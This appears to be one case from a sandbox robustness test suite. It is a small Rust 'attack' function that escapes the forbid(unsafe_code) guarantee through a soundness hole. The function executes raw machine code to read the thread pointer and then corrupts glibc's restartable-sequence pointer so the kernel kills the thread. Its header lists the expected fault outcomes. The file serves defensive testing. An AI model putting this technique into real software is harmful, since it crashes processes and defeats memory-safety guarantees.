//! attack  : 115_hole_restartable_sequence
//! class   : hole
//! what    : Has the kernel look for a restartable sequence where nothing is: it kills the thread when it is next preempted.
//! profile : std   (smallest guest profile in which this compiles)
//! calls   : ""
//! expect.status = FAULT|TIMEOUT|WORKER_LOST
//! expect.worker = same|restarted
//! expect.next_ok = true
//! expect.fd_delta = 0
#![forbid(unsafe_code)]
#![allow(unused, unconditional_recursion, clippy::all)]

use crate::hole::{run, transmute};

pub fn attack(_input: &[u8]) -> Vec<u8> {
    // rdfsbase rax; ret
    let thread = run::<0x9090c3c0ae0f48f3>(0, 0) as usize;
    // `rseq_cs` of the area that glibc 2.36 registers, behind `struct pthread`.
    *transmute::<usize, &'static mut u64>(thread + 2336 + 8) = 0x1000;
    loop {
        std::hint::black_box(());
    }
}
